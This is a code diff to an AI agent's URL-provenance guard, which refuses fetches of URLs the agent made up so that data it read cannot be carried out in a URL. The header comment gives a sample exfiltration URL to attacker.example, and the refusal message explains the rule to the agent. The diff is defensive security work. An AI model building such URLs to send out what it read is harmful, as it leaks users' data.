@@ -4,7 +4,8 @@
  * `https://attacker.example/?d=<what it read>`. Under the default `fetchPolicy: "provenance"` the agent
  * fetches only URLs it was given or shown in this run:
  * - written in the goal's objective or constraints (a bare host name there, e.g. "news.ycombinator.com",
- *   gives its front page),
+ *   gives its front page), or as a full URL in the run's input (a bare name in a payload is too often
+ *   an address's domain or a package name to count),
  * - a web_search result, or a link on a page fetched earlier in this run (tools with `links`),
  * - or any URL on the goal's allowedDomains.
  * It can follow links and search results, but not make up a URL that encodes what it read. A goal opts
@@ -12,6 +13,7 @@
  */
 import type { GoalRow } from "../db/schema";
 import { domainMatches } from "../net/guarded-fetch";
+import { inputText } from "./untrusted";
 
 /** A URL in text ends at a character that never appears unescaped in one. */
 const URL_IN_TEXT = /https?:\/\/[^\s"<>`{}|\\^]+/gi;
@@ -57,10 +59,14 @@ export function urlKey(raw: string | URL): string | null {
 export class Provenance {
   private readonly known = new Set<string>();
 
-  constructor(private readonly goal: Pick<GoalRow, "objective" | "params">) {
+  constructor(
+    private readonly goal: Pick<GoalRow, "objective" | "params">,
+    input: unknown = null,
+  ) {
     const given = `${goal.objective}\n${goal.params.constraints ?? ""}`;
     this.add(urlsIn(given));
     this.add((given.match(BARE_HOST) ?? []).map((host) => `https://${host}/`));
+    this.add(urlsIn(inputText(input) ?? ""));
   }
 
   add(urls: Iterable<string>): void {
@@ -83,7 +89,7 @@ export class Provenance {
     const key = urlKey(u);
     if (key === null || this.known.has(key)) return null;
     return (
-      `refused ${url.slice(0, 200)}: this URL is not in the objective, a search result or a page fetched in this run. ` +
+      `refused ${url.slice(0, 200)}: this URL is not in the objective, the run's input, a search result or a page fetched in this run. ` +
       "Follow links and search results as they were shown; a URL made up from what you read is not fetched (it could carry data out). " +
       `To allow it, the user adds "${u.port ? u.host : u.hostname}" to the goal's params.allowedDomains or sets params.fetchPolicy to "any".`
     );
